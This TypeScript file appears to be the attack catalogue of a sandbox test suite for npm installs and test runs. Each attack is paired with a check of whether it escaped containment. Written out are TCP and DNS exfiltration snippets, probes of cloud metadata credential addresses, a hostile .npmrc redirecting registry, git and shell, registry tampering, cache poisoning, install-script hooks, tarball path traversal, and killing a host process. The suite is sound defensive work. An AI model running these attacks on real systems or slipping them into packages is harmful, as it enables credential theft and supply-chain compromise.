// Attacks that want to reach somebody: the network, the registry, the cache, other processes.

import { existsSync, readdirSync } from 'node:fs';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';
import { detects, none, shell, type Attack } from './attack.ts';
import type { Ground } from './ground.ts';

/** Datagrams and refusals on loopback are there within a few milliseconds. */
const SETTLE_MS = 100;

export const REACHING: readonly Attack[] = [
  {
    name: 'sends data out by TCP',
    tries: 'It connects to the host under each of its addresses.',
    argv: ({ tcpPort }) => [
      'node',
      '-e',
      `for (const host of ${JSON.stringify(addresses())})
         require('net').connect({ port: ${tcpPort}, host, timeout: 500 }, function () { this.end('stolen'); })
           .on('error', () => {}).on('timeout', function () { this.destroy(); });`,
    ],
    ends: ['exited'],
    escaped: wasContacted,
    control: detects,
  },
  {
    name: 'sends data out by DNS',
    tries: 'It sends queries with stolen text in the name, to a server of its own and to the system’s.',
    argv: ({ udpPort }) => [
      'node',
      '-e',
      `const dns = require('dns');
       const resolver = new dns.Resolver({ timeout: 300, tries: 1 });
       resolver.setServers(['127.0.0.1:${udpPort}', ...${JSON.stringify(addresses())}.map((host) => host + ':${udpPort}')]);
       resolver.resolve4('stolen.example.com', () => dns.lookup('stolen.invalid', (error) => console.log(error?.code)));`,
    ],
    ends: ['exited'],
    escaped: wasContacted,
    control: detects,
  },
  {
    name: 'asks the cloud for its credentials',
    tries: 'It connects to the metadata addresses of the large clouds.',
    argv: () => [
      'node',
      '-e',
      `for (const host of ['169.254.169.254', '169.254.170.2', '100.100.100.200', 'fd00:ec2::254'])
         require('net').connect({ port: 80, host, timeout: 500 }, function () { console.log('reached', host); this.destroy(); })
           .on('error', (error) => console.log(error.code)).on('timeout', function () { console.log('reached for', host); this.destroy(); });`,
    ],
    ends: ['exited'],
    // Waiting for an answer already means that there is a way out.
    escaped: (_, { stdout }) => (stdout.includes('reached') ? stdout : null),
    control: none('it would really ask the cloud that this machine may run in'),
  },
  {
    name: 'sends another registry’s way',
    tries: 'Its .npmrc names another registry for a scope, and its own programs as git and shell.',
    phase: 'install',
    files: ({ tcpPort }) => ({
      'package.json':
        '{"name":"a","version":"1.0.0","dependencies":{"@evil/x":"1.0.0","g":"git+https://127.0.0.1/x.git"}}',
      '.npmrc': `@evil:registry=http://127.0.0.1:${tcpPort}/\nregistry=http://127.0.0.1:${tcpPort}/\nscript-shell=/project/evil\ngit=/project/evil\nfetch-retries=0\n`,
      evil: '#!/bin/sh\ntouch "$(dirname "$0")/pwned"\nexit 1\n',
    }),
    argv: () => ['npm', 'install', '--fetch-retries=0'],
    ends: ['exited'],
    escaped: async (ground) => (await wasContacted(ground)) ?? hasAppeared(ground, 'pwned'),
    control: detects,
  },
  {
    name: 'poisons the registry',
    tries: 'It publishes, deletes and logs in, through the proxy and past it.',
    phase: 'install',
    packages: [{ name: 'left', version: '1.0.0' }],
    argv: ({ registry }) => [
      'node',
      '-e',
      `(async () => {
        for (const url of [process.env.npm_config_registry, '${registry.url}'])
          for (const method of ['PUT', 'POST', 'DELETE', 'PATCH'])
            await fetch(url + 'left', { method, body: method === 'DELETE' ? undefined : '{}' }).catch(() => {});
      })()`,
    ],
    ends: ['exited'],
    escaped: ({ registry }) => {
      const changed = registry.requests().filter(({ method }) => method !== 'GET' && method !== 'HEAD');
      return changed.length === 0 ? null : `the registry got ${changed.map(({ method }) => method).join(', ')}`;
    },
    control: detects,
  },
  {
    name: 'poisons the cache',
    tries: 'While the tests run it writes into npm’s cache, where the next install would find it.',
    argv: ({ cache }) =>
      shell(
        `for place in ${cache} /tandem/cache "$npm_config_cache"; do mkdir -p $place; echo poison >$place/poison; done; true`,
      ),
    ends: ['exited'],
    escaped: ({ cache }) =>
      readdirSync(cache, { recursive: true }).some((name) => String(name).endsWith('poison'))
        ? 'the cache holds poison'
        : null,
    control: detects,
  },
  {
    name: 'runs a script at install',
    tries: 'A dependency has install scripts of every kind.',
    phase: 'install',
    files: () => ({
      'package.json':
        '{"name":"a","version":"1.0.0","dependencies":{"evil":"1.0.0"},"scripts":{"prepare":"touch pwned"}}',
    }),
    packages: [
      {
        name: 'evil',
        version: '1.0.0',
        manifest: {
          scripts: {
            preinstall: 'touch "$INIT_CWD/pwned"',
            install: 'touch "$INIT_CWD/pwned"',
            postinstall: 'touch "$INIT_CWD/pwned"',
          },
        },
      },
    ],
    argv: () => ['npm', 'install'],
    ends: ['exited'],
    escaped: (ground) => hasAppeared(ground, 'pwned'),
    control: none('scripts are off there too; that they would run is what npm is known for'),
  },
  {
    name: 'climbs out of a tarball',
    tries: 'A package’s tarball has paths with ../ and a link through which later entries are written.',
    phase: 'install',
    files: () => ({ 'package.json': '{"name":"a","version":"1.0.0","dependencies":{"slip":"1.0.0"}}' }),
    packages: [
      {
        name: 'slip',
        version: '1.0.0',
        rawEntries: [
          { path: 'package/../../../../pwned', content: 'x' },
          { path: 'package/out', content: '', linkTo: '../../../' },
          { path: 'package/out/pwned', content: 'x' },
          { path: '/pwned', content: 'x' },
        ],
      },
    ],
    argv: () => ['npm', 'install'],
    ends: ['exited'],
    escaped: (ground) =>
      hasAppeared(ground, '../pwned') ?? hasAppeared(ground, 'pwned') ?? (existsSync('/pwned') ? '/pwned' : null),
    control: none('npm itself refuses such paths'),
  },
  {
    name: 'ends a process of the host',
    tries: 'It signals a process of the host by its number, and opens its memory.',
    argv: ({ victim }) =>
      shell(`kill -9 ${victim.pid}; ( : >>/proc/${victim.pid}/mem ) 2>/dev/null && echo opened; true`),
    ends: ['exited'],
    async escaped({ victim }, { stdout }) {
      await wait(SETTLE_MS);
      return victim.signalCode === null && !stdout.includes('opened') ? null : 'the process of the host was reached';
    },
    control: detects,
  },
];

async function wasContacted({ contacts }: Ground): Promise<string | null> {
  await wait(SETTLE_MS);
  return contacts() === 0 ? null : `the host was contacted ${contacts()} times`;
}

const hasAppeared = ({ project }: Ground, name: string): string | null =>
  existsSync(join(project, name)) ? `${name} has appeared` : null;

function addresses(): readonly string[] {
  const all = Object.values(networkInterfaces()).flat();
  return [
    '127.0.0.1',
    ...all.filter((one) => one?.family === 'IPv4' && !one.internal).map((one) => one?.address ?? ''),
  ];
}
